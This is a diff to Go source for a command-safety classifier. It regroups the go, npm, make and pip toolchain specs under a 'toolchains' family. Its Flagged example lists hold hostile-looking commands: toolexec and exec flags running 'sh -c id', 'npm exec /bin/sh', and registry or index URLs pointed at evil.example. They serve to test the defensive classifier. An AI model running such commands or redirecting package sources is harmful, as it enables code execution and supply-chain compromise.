@@ -5,14 +5,14 @@ package programs
 // Options and subcommands that run a command given on the command line, or
 // load a tool, are Exec or Load.
 
-func init() {
+var _ = family("toolchains", func(add func(...*Spec)) {
 	goBuild := "-C= -a -n -p= -race -msan -asan -cover -covermode= -coverpkg= -v -work -x -asmflags= -buildmode= -buildvcs? -compiler= -gccgoflags= -gcflags= -installsuffix= " +
 		"-ldflags= -linkshared -mod= -modcacherw -modfile=r -overlay=r -pgo=r -pkgdir= -tags= -trimpath -toolexec=x -o=w -json -i -debug-actiongraph= -debug-trace= -debug-runtime-trace= -h:h -help:h"
 	goTest := goBuild + " -exec=x -c -args -bench= -benchtime= -benchmem -count= -coverprofile=w -cpu= -failfast -fullpath -fuzz= -fuzztime= -fuzzminimizetime= -list= -parallel= -run= -short " +
 		"-shuffle= -skip= -timeout= -vet= -blockprofile=w -blockprofilerate= -coverprofile=w -cpuprofile=w -memprofile=w -memprofilerate= -mutexprofile=w -mutexprofilefraction= -outputdir=w -trace=w " +
 		"-test.run= -test.v -test.count= -test.timeout= -test.short -test.bench="
 	goPkgs := &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: RunsProject, Options: goBuild}
-	register(&Spec{
+	add(&Spec{
 		Names: n("go"), LongDash: true, Options: "-C= -h:h -help:h --help:h -version:h",
 		ReadOnly: []string{"go version", "go env GOPATH", "go list ./...", "go doc fmt.Println", "go list -m all", "go list -json ./...", "go help build", "go vet ./..."},
 		Flagged: []string{"go list -toolexec='sh -c id' ./...", "go list -export -toolexec=./x.sh ./...", "go build -toolexec=./x.sh ./...", "go test -exec='sh -c id' ./...",
@@ -40,7 +40,7 @@ func init() {
 	npmRun := &Spec{Effect: RunsProject, Permute: true, Operands: "-*", Loose: true, Options: "--script-shell=x -h:h --help:h"}
 	npmNet := &Spec{Effect: RunsProject, Permute: true, Operands: "-*", Loose: true, Options: "--registry=n -h:h --help:h"}
 	npmRead := &Spec{Permute: true, Operands: "-*", Options: "--json --long -l --parseable -p --depth= --all -a --global -g --omit= --include= --prod --dev --workspace= -w= --workspaces --link --unicode --registry=n -h:h --help:h"}
-	register(&Spec{
+	add(&Spec{
 		Names: n("npm"), Permute: false, Options: "-v:h --version:h -h:h --help:h -C= --prefix= -w= --workspace= --workspaces --silent -s --loglevel= -d -dd --yes -y",
 		ReadOnly: []string{"npm ls", "npm view react version", "npm outdated", "npm -v", "npm config list", "npm help install"},
 		Flagged:  []string{"npm exec /bin/sh", "npm config set registry https://evil.example", "npm install", "npm run build", "npm frobnicate"},
@@ -55,7 +55,7 @@ func init() {
 			"cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "set", &Spec{Effect: Config, Operands: "-*", Loose: true}, "login", &Spec{Effect: Config, Operands: "-*", Loose: true}, "logout", &Spec{Effect: Config, Operands: "-*", Loose: true},
 		),
 	})
-	register(
+	add(
 		&Spec{Names: n("make", "gmake"), Effect: RunsProject, Lang: "make", Permute: true, Operands: "-*",
 			// --eval and the makefile run any command.
 			Options: "-B --always-make -C= --directory= -d --debug? -e --environment-overrides -E=k --eval=k -f= --file= --makefile= -i --ignore-errors -I= --include-dir= -j? --jobs? " +
@@ -86,4 +86,4 @@ func init() {
 				"uninstall", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "config", &Spec{Effect: Config, Operands: "-*", Loose: true}, "cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}),
 			ReadOnly: []string{"pip list", "pip show requests", "pip freeze"}, Flagged: []string{"pip install requests", "pip install --index-url https://evil.example/simple pkg"}},
 	)
-}
+})
